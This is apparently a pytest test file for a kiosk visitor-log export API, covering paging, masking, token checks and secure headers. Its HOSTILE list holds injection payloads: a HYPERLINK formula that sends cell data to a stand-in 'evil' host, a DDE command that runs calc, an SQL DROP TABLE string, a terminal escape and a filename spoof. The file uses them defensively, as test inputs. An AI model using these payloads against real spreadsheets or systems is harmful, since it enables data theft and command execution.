"""The pull of the log: who asks with a token gets the rows, masked, and the log says so."""

import csv
import io
import json
import re

import httpx
import pytest

from kiosk.core.events import ActorKind, DeviceLost, DoorOpened, PersonRecorded, SignedIn
from kiosk.core.people import PersonKind
from kiosk.sheets.columns import Record, match
from kiosk.sheets.reading import read_table
from kiosk.store.export import COLUMNS
from kiosk.web.answers import SAFE_HEADERS
from tests.store.making import event
from tests.web.running import Served, bearing, lines, remove_token

FORMATS = ("json", "ndjson", "csv", "xlsx")


def sheet(response: httpx.Response) -> list[Record]:
    """Read a workbook as a spreadsheet does."""
    table = read_table(response.content, "log.xlsx")
    assert table.header.cells == tuple(COLUMNS)
    return list(match(table, dict.fromkeys(COLUMNS, ())).records())


def positions(response: httpx.Response, fmt: str) -> list[int]:
    """Give the positions of the rows of an answer."""
    if fmt == "json":
        return [row["pos"] for row in response.json()["events"]]
    if fmt == "ndjson":
        return [row["pos"] for row in lines(response)]
    if fmt == "xlsx":
        return [int(str(row["pos"])[:-2]) for row in sheet(response)]
    table = csv.DictReader(io.StringIO(response.text.removeprefix("\ufeff")))
    return [int(row["pos"]) for row in table]


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_rows_after_a_position_come_in_order(served: Served, fmt: str) -> None:
    response = served.get(after=3, limit=4, format=fmt)
    assert response.status_code == 200
    assert positions(response, fmt) == [4, 5, 6, 7]
    assert response.headers["x-next"] == "7"


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_cursor_leads_on_without_loss_or_repeat(served: Served, fmt: str) -> None:
    after, found = 0, []
    for _ in range(4):
        response = served.get(after=after, limit=3, format=fmt)
        found += positions(response, fmt)
        after = int(response.headers["x-next"])
    assert found == list(range(1, 13))
    if fmt == "json":
        assert response.json()["next"] == after


@pytest.mark.parametrize("fmt", FORMATS)
def test_after_the_head_there_is_nothing_and_the_cursor_stays(served: Served, fmt: str) -> None:
    response = served.get(after=500, limit=10, format=fmt)
    assert positions(response, fmt) == []
    assert response.headers["x-next"] == "500"


def test_left_out_parameters_mean_json_from_the_start_a_thousand_rows(served: Served) -> None:
    response = served.get()
    assert response.headers["content-type"] == "application/json"
    assert positions(response, "json") == list(range(1, 12))
    assert set(response.json()) == {"events", "next"}


@pytest.mark.parametrize("fmt", ["ndjson", "csv"])
def test_limit_zero_means_up_to_the_head_at_the_start(served: Served, fmt: str) -> None:
    assert positions(served.get(limit=0, format=fmt), fmt) == list(range(1, 12))


def test_csv_is_what_a_spreadsheet_opens(served: Served) -> None:
    response = served.get(after=0, limit=3, format="csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == 'attachment; filename="log-0.csv"'
    header = next(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"))))
    assert header == list(COLUMNS)


def test_a_workbook_is_a_file_to_keep(served: Served) -> None:
    response = served.get(after=0, limit=3, format="xlsx")
    assert response.headers["content-type"].endswith("spreadsheetml.sheet")
    assert response.headers["content-disposition"] == 'attachment; filename="log-0.xlsx"'
    assert response.content.startswith(b"PK")


@pytest.mark.parametrize("fmt", FORMATS)
def test_names_and_values_leave_masked(served: Served, fmt: str) -> None:
    response = served.get(format=fmt)
    text = str(sheet(response)) if fmt == "xlsx" else response.text
    assert "王**" in text
    assert "王小明" not in text


@pytest.mark.parametrize("fmt", FORMATS)
def test_each_pull_is_two_events_with_who_and_what(served: Served, fmt: str) -> None:
    served.get(after=2, limit=5, format=fmt)
    with served.log() as log:
        begun, ended = log.read(11, 10)
    for stored in (begun, ended):
        assert stored.event.actor.kind is ActorKind.ACCOUNT
        assert stored.event.actor.name == "token:bureau"
    ((pulled, end),) = served.pulls(11)
    assert (pulled.fmt, pulled.after, pulled.limit, pulled.masked) == (fmt, 2, 5, True)
    assert end is not None
    assert (end.rows, end.complete) == (5, True)


HOSTILE = (
    '=HYPERLINK("http://evil/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "  =1+1",
    'a"b,c\r\nd',
    "'; DROP TABLE log; --",
    "\x1b]52;c;eA==\x07",
    "[@click=quit]x[/]",
    "x\u202egpj.exe",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_one_cell_that_computes_nothing(served: Served, text: str) -> None:
    with served.log() as log:
        hostile = PersonRecorded("p2", PersonKind.VISITOR, text, name=text, phone=text)
        log.append(event(hostile), event(DeviceLost(text, "noise")), event(SignedIn(text)))
    response = served.get(after=11, limit=3, format="csv")
    rows = list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == 4
    assert {len(row) for row in rows} == {len(COLUMNS)}
    for row in rows[1:]:
        for cell in row:
            assert not re.match(r"[\s\u3000]*[=+\-@＝＋－＠]", cell), cell
    for record in sheet(served.get(after=11, limit=3, format="xlsx")):
        for value in record.cells.values():
            assert not (isinstance(value, str) and re.match(r"[\s\u3000]*[=+\-@＝＋－＠]", value))
    rest = lines(served.get(after=11, limit=3, format="ndjson"))
    assert rest[0]["unit"] == text


@pytest.mark.parametrize("authorization", [None, "", "Bearer", "Basic eDp5", "x" * 5000])
def test_without_a_token_there_is_nothing(served: Served, authorization: str | None) -> None:
    headers = {} if authorization is None else {"authorization": authorization}
    response = served.ask("/api/v1/events", **headers)
    assert response.status_code == 401
    assert response.headers["www-authenticate"] == "Bearer"
    error = response.json()["error"]
    assert error["code"] == "token_missing"
    assert error["zh"]
    assert error["en"]
    assert served.pulls() == []


@pytest.mark.parametrize("shown", ["{token}A", "A{token}", "{token} {token}", "é" * 9, "*", "%"])
def test_a_wrong_token_gets_nothing(served: Served, shown: str) -> None:
    text = "Bearer " + shown.format(token=served.token)
    headers = {b"Authorization": text.encode("latin-1")}
    response = served.client.get(served.events, headers=headers)
    assert response.status_code == 401
    assert response.json()["error"]["code"] == "token_wrong"
    assert served.pulls() == []


def test_a_token_removed_while_the_server_runs_opens_nothing_any_more(served: Served) -> None:
    assert served.get(limit=1).status_code == 200
    remove_token(served.state, "bureau")
    assert served.get(limit=1).status_code == 401


def test_after_five_wrong_tokens_an_address_has_to_wait(served: Served) -> None:
    answers = [served.get("wrong") for _ in range(7)]
    assert [one.status_code for one in answers] == [401] * 5 + [429] * 2
    assert 1 <= int(answers[-1].headers["retry-after"]) <= 30
    assert answers[-1].json()["error"]["code"] == "too_many_failures"
    assert served.get(limit=1).status_code == 200, "a right token is never held up"


def test_every_bad_parameter_is_named_at_once(served: Served) -> None:
    response = served.get(after="-1", limit="many", format="xml", unmask="1")
    assert response.status_code == 400
    error = response.json()["error"]
    assert [(one["parameter"], one["code"]) for one in error["problems"]] == [
        ("after", "not_a_position"),
        ("limit", "not_a_limit"),
        ("format", "no_such_format"),
        ("?", "unknown"),
    ]
    assert all(one["zh"] and one["en"] for one in error["problems"])


@pytest.mark.parametrize(
    "query",
    [
        "after=1e3",
        "after=" + "9" * 5000,
        "after=9007199254740993",
        "limit=-1",
        "limit=1.5",
        "limit=",
        "limit=0",
        "limit=10001",
        "limit=1&limit=2",
        "format=CSV",
        "format=csv&format=json",
        "masked=false",
        "after=%00",
        "after='%20OR%201=1",
    ],
)
def test_a_bad_parameter_pulls_nothing_and_is_never_echoed(served: Served, query: str) -> None:
    response = served.ask(f"/api/v1/events?{query}", **bearing(served.token))
    assert response.status_code == 400
    assert len(response.content) < 1500
    assert "OR 1=1" not in response.text
    assert served.pulls() == []


def test_a_bad_parameter_tells_nothing_to_somebody_without_a_token(served: Served) -> None:
    response = served.ask("/api/v1/events?after=x")
    assert response.status_code == 401


def test_every_answer_is_safe_and_says_nothing_of_the_server(served: Served) -> None:
    paths = ("/api/v1/events", "/healthz", "/docs", "/redoc", "/", "/api/v1/events/%2e%2e/x")
    for path in paths:
        response = served.ask(path)
        assert response.headers.items() >= {k.lower(): v for k, v in SAFE_HEADERS.items()}.items()
        assert "server" not in response.headers
    assert served.get(format="csv").headers["x-content-type-options"] == "nosniff"


def test_no_path_is_sent_elsewhere_by_the_name_a_client_gives_the_server(served: Served) -> None:
    response = served.ask("/api/v1/events/", Host="elsewhere.example", **bearing(served.token))
    assert response.status_code == 404
    assert "location" not in response.headers


def test_nothing_loads_scripts_from_elsewhere(served: Served) -> None:
    for path in ("/docs", "/redoc"):
        assert served.ask(path).status_code == 404
    description = served.ask("/api/v1/openapi.json").json()
    assert set(description["paths"]) == {"/api/v1/events"}


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS"])
def test_there_is_nothing_to_change(served: Served, method: str) -> None:
    response = served.ask("/api/v1/events", method, **bearing(served.token))
    assert (response.status_code, response.headers["allow"]) == (405, "GET")


def test_health_is_told_to_anybody_and_nothing_else(served: Served) -> None:
    response = served.ask("/healthz")
    assert (response.status_code, response.json()) == (200, {"ok": True})


def test_a_log_that_cannot_be_read_is_told_as_such(served: Served) -> None:
    served.state.joinpath("keys", "personal.key").chmod(0o644)
    for response in (served.get(), served.ask("/healthz")):
        assert response.status_code == 503
        assert response.json()["error"]["code"] == "log_unavailable"
        assert str(served.state) not in response.text


def test_a_pull_during_an_entry_sees_it_with_the_next_cursor(served: Served) -> None:
    first = served.get(format="json").json()
    with served.log() as log:
        pos = log.append(event(DoorOpened(700))).pos
    second = served.get(after=first["next"], format="json").json()
    assert pos in [row["pos"] for row in second["events"]]
    json.dumps(second)
